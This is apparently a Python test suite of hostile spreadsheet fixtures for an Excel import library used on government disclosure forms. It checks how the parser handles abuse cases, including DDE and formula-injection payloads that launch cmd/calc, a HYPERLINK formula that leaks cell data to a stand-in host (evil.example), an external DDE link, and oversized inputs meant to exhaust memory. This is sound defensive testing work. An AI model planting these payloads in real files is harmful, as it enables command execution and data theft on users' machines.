"""Sheets whose cells reach too far, lie, or hold what no officer types."""

from __future__ import annotations

import re
from collections.abc import Sequence

from tests.hostile.cases import ACCEPTED, case
from tests.hostile.reports import Report
from zwgk_excel.layout.columns import layout
from zwgk_excel.workbooks.excel import column_letters

_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _text(value: str) -> str:
    return f'<c r="{{at}}" t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'


# --- formulas and links ------------------------------------------------------------------------


@case("formula_as_text.xlsx", ACCEPTED)
def formula_text(report: Report) -> bytes:
    """What a spreadsheet would run if it were written back as a formula."""
    cells = {"remark": "=cmd|'/c calc'!A1", "doc_no": "@SUM(1+1)*cmd|'/c calc'!A0", "phone": "-2+3+cmd|'/c calc'!A0"}
    for column, text in cells.items():
        report = report.with_cell(column, _text(text))
    return report.bytes()


@case("formula_dde.xlsx", ACCEPTED)
def formula_dde(report: Report) -> bytes:
    """Formulas with results: the results are read."""
    link = '<c r="{at}" t="str"><f>HYPERLINK("http://evil.example/?x="&amp;A4,"click")</f><v>click</v></c>'
    command = "<c r=\"{at}\"><f>cmd|'/c calc'!A1</f><v>0</v></c>"
    return report.with_cell("remark", link).with_cell("doc_no", command).bytes()


@case("formula_uncached.xlsx", "returned:cell_formula")
def formula_uncached(report: Report) -> bytes:
    return report.with_cell("remark", '<c r="{at}"><f>SUM(1,2)</f></c>').bytes()


@case("error_cell.xlsx", "returned:cell_error")
def error_cell(report: Report) -> bytes:
    return report.with_cell("doc_no", '<c r="{at}" t="e"><v>#REF!</v></c>').bytes()


@case("external_dde_link.xlsx", ACCEPTED)
def external_link(report: Report) -> bytes:
    part = f'<externalLink xmlns="{_MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    relation = f'<Relationship Id="rId99" Type="{_RELATION}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    reference = '</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>'
    linked = report.with_parts({"xl/externalLinks/externalLink1.xml": part.encode()})
    linked = linked.replaced(report.RELATIONS, "</Rel", f"{relation}</Rel")
    linked = linked.replaced(report.WORKBOOK, "</sheets>", reference)
    return linked.with_cell("doc_no", '<c r="{at}"><f>[1]!A1</f><v>7</v></c>').bytes()


# --- how far a sheet reaches -------------------------------------------------------------------


@case("dimension_of_everything.xlsx", ACCEPTED)
def huge_dimension(report: Report) -> bytes:
    return _dimension(report, "A1:XFD1048576")


@case("dimension_of_one_cell.xlsx", ACCEPTED)
def small_dimension(report: Report) -> bytes:
    """WPS writes this; a reader that believes it sees nothing."""
    return _dimension(report, "A1")


def _dimension(report: Report, reference: str) -> bytes:
    claim = f'<dimension ref="{reference}"/>'
    return report.edited(report.ITEMS, lambda text: re.sub(r"<dimension[^>]*>", claim, text)).bytes()


@case("two_corner_cells.xlsx", "sheet_too_large")
def corners(report: Report) -> bytes:
    """The reader would want 550 GB, and abort."""
    return report.with_rows('<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>').bytes()


@case("far_row_cell.xlsx", "sheet_too_large")
def far_row(report: Report) -> bytes:
    """An honest slip: a stray cell in the last row."""
    return report.with_rows('<row r="1048576"><c r="A1048576"><v>2</v></c></row>').bytes()


@case("far_column_cell.xlsx", "sheet_too_large")
def far_column(report: Report) -> bytes:
    return report.with_rows('<row r="50000"><c r="XFD50000"><v>2</v></c></row>').bytes()


@case("cell_references_garbage.xlsx", "file_unreadable")
def garbage_references(report: Report) -> bytes:
    rows = '<row r="99999999999"><c r="ZZZZZZZ99999999999"><v>1</v></c></row><row r="-5"><c r="!!"><v>1</v></c></row>'
    return report.with_rows(rows).bytes()


@case("cell_reference_row_0.xlsx", "file_unreadable")
def row_zero(report: Report) -> bytes:
    return report.with_rows('<row r="0"><c r="A0"><v>1</v></c></row>').bytes()


@case("cell_reference_beyond_limit.xlsx", "sheet_too_large")
def beyond_the_limit(report: Report) -> bytes:
    return report.with_rows('<row r="4000000000"><c r="A4000000000"><v>1</v></c></row>').bytes()


# --- much of nothing ---------------------------------------------------------------------------


@case("styled_1m_empty_rows.xlsx", ACCEPTED)
def styled_rows(report: Report) -> bytes:
    rows = (f'<row r="{number}" s="1" customFormat="1" ht="15"/>' for number in range(6_000, 1_000_000))
    return report.with_rows("".join(rows)).bytes()


@case("styled_200k_rows_of_10_empty_cells.xlsx", f"{ACCEPTED}|file_too_slow")
def styled_cells(report: Report) -> bytes:
    row = "".join(f'<c r="{letter}%d" s="1"/>' for letter in "ABCDEFGHIJ")
    rows = (f'<row r="{number}">{row % ((number,) * 10)}</row>' for number in range(6_000, 206_000))
    return report.with_rows("".join(rows)).bytes()


@case("merges_500k.xlsx", ACCEPTED)
def many_merges(report: Report) -> bytes:
    merges = "".join(f'<mergeCell ref="A{number}:B{number}"/>' for number in range(6_000, 506_000))
    return report.replaced(report.ITEMS, "</mergeCells>", f"{merges}</mergeCells>").bytes()


@case("merge_of_the_whole_sheet.xlsx", ACCEPTED)
def whole_merge(report: Report) -> bytes:
    merge = '<mergeCell ref="A1:XFD1048576"/>'
    return report.replaced(report.ITEMS, "</mergeCells>", f"{merge}</mergeCells>").bytes()


@case("long_string_40m.xlsx", "file_unsafe")
def long_string(report: Report) -> bytes:
    return report.with_cell("remark", _text("长" * 14_000_000)).bytes()


@case("long_string_300k.xlsx", "returned:cell_too_long")
def longer_than_a_cell(report: Report) -> bytes:
    """More than Excel lets anyone type, and too little to be turned away as a bomb."""
    return report.with_cell("remark", _text("".join(chr(0x4E00 + n * 7919 % 20_000) for n in range(300_000)))).bytes()


@case("sheets_20000.xlsx", "file_unsafe")
def many_sheets(report: Report) -> bytes:
    """Each names the one large part: who reads them all reads for hours."""
    found = re.search(r'r:id="(rId\d+)"', report.parts[report.WORKBOOK].decode().partition('sheetId="3"')[2])
    assert found
    more = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="{found[1]}"/>' for n in range(6, 20_000))
    return report.replaced(report.WORKBOOK, "</sheets>", f"{more}</sheets>").bytes()


@case("defined_names_200k.xlsx", ACCEPTED)
def many_names(report: Report) -> bytes:
    names = "".join(f'<definedName name="n{n}">信息明细!$A$1</definedName>' for n in range(200_000))
    return report.replaced(report.WORKBOOK, "</definedNames>", f"{names}</definedNames>").bytes()


# --- values ------------------------------------------------------------------------------------


@case("numbers_weird.xlsx", ACCEPTED)
def weird_numbers(report: Report) -> bytes:
    """Numbers in columns of text, among them one that lost its last digits."""
    cells = {"doc_no": "1e400", "phone": "110101199003078888", "remark": "NaN", "draft_note": "-0", "reading": "1E-7"}
    for column, number in cells.items():
        report = report.with_cell(column, f'<c r="{{at}}"><v>{number}</v></c>')
    return report.bytes()


@case("number_with_a_comma.xlsx", ACCEPTED)
def number_with_a_comma(report: Report) -> bytes:
    """No number, but what was typed is plain to see."""
    return report.with_cell("doc_no", '<c r="{at}"><v>1,234</v></c>').bytes()


@case("cell_of_unknown_type.xlsx", "returned:cell_error")
def unknown_type(report: Report) -> bytes:
    return report.with_cell("doc_no", '<c r="{at}" t="zz"><v>1</v></c>').bytes()


@case("dates_impossible.xlsx", "returned:date_form")
def impossible_dates(report: Report) -> bytes:
    return report.with_cell("formed_on", '<c r="{at}" s="27"><v>1e18</v></c>').bytes()


@case("dates_negative.xlsx", "returned:date_form")
def negative_dates(report: Report) -> bytes:
    return report.with_cell("formed_on", '<c r="{at}" s="27"><v>-5</v></c>').bytes()


@case("dates_beyond_9999.xlsx", "returned:date_form")
def late_dates(report: Report) -> bytes:
    return report.with_cell("formed_on", '<c r="{at}" s="27"><v>2958466</v></c>').bytes()


@case("dates_iso_impossible.xlsx", "returned:date_form")
def impossible_iso(report: Report) -> bytes:
    return report.with_cell("formed_on", '<c r="{at}" t="d"><v>2026-13-45T00:00:00</v></c>').bytes()


@case("dates_iso.xlsx", ACCEPTED)
def iso(report: Report) -> bytes:
    return report.with_cell("formed_on", '<c r="{at}" t="d"><v>2026-11-02</v></c>').bytes()


# --- honest, and too much ----------------------------------------------------------------------


def _numbers(first: int, last: int, columns: Sequence[str]) -> str:
    cells = [f'<c r="{letter}%d"><v>%d</v></c>' for letter in columns]
    return "".join(
        f'<row r="{row}">{"".join(cell % (row, row * place) for place, cell in enumerate(cells, 1))}</row>'
        for row in range(first, last)
    )


@case("outside_20k_cells.xlsx", ACCEPTED)
def outside(report: Report) -> bytes:
    """A table of the office's own, pasted to the right of the form."""
    beside = len(layout("report")["items"].columns) + 1
    columns = [column_letters(beside + number) for number in range(10)]
    return report.with_rows(_numbers(6_000, 8_000, columns)).bytes()


@case("outside_2m_cells.xlsx", f"{ACCEPTED}|file_too_slow")
def far_outside(report: Report) -> bytes:
    return report.with_rows(_numbers(6_000, 80_000, [f"{a}{b}" for a in "AB" for b in "ABCDEFGHIJK"])).bytes()


def _items(report: Report, count: int) -> bytes:
    cells = '<c r="A{0}" t="inlineStr"><is><t>D99</t></is></c><c r="B{0}" t="inlineStr"><is><t>标题{0}</t></is></c>'
    rows = (f'<row r="{row}">{cells.format(row)}</row>' for row in range(6_000, 6_000 + count))
    return report.with_rows("".join(rows)).bytes()


@case("too_many_items_20k.xlsx", "rows_too_many")
def many_items(report: Report) -> bytes:
    """Four times as many rows as the form checks, each with a task that does not exist."""
    return _items(report, 20_000)


@case("too_many_items_90k.xlsx", "rows_too_many|file_too_slow|file_crashed")
def as_many_items_as_there_may_be(report: Report) -> bytes:
    return _items(report, 90_000)
